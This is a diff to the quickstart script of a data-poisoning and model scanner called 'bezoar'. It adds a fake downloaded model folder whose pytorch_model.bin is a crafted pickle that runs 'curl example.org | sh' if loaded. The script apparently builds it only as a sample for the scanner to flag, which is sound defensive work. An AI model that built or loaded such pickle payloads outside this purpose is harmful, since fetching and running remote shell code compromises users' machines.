@@ -1,5 +1,5 @@
 #!/usr/bin/env bash
-# The main job on real input: scan a table, plant one trigger into a copy, scan again, show what was found.
+# The main job on real input: scan a table, plant one trigger into a copy, scan again, show what was found; then a model.
 # Usage: quickstart.sh BUILD [DATA]; LABEL names the label column of DATA (guessed otherwise).
 set -euo pipefail
 cd "$(dirname "$0")/.."
@@ -35,9 +35,19 @@ printf '\n--- Planting %d poisoned rows: bezoar poison --attack rare-combo\n' "$
   --answer-key "$out/answer-key.json"
 scan "Poisoned copy" "$out/poisoned.csv" poisoned
 
+# A model as somebody may have downloaded it. What lies in the pickle is never loaded, here or in the scan.
+model=$out/downloaded-model
+mkdir -p "$model"
+printf '{"architectures": ["Net"], "model_type": "net"}\n' >"$model/config.json"
+printf '\x40\0\0\0\0\0\0\0{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}          \0\0\x80?\0\0\0@' \
+  >"$model/model.safetensors"
+printf 'cos\nsystem\n(S"curl example.org | sh"\ntR.' >"$model/pytorch_model.bin"
+printf '\n--- A downloaded model: bezoar scan %s\n\n' "$model"
+env -u CI "$bezoar" scan "$model" --report "$out/model.html" --sbom "$out/model.cdx.json" || [ $? = 1 ]
+
 cat <<EOT
 
 What was planted:   $out/answer-key.json
-The HTML report:    $PWD/$out/poisoned.html
+The HTML reports:   $PWD/$out/poisoned.html and model.html beside it
 To split the data:  $1/bezoar clean $out/poisoned.csv --from $out/poisoned.json -o $out/kept.csv --quarantine $out/quarantine.csv
 EOT
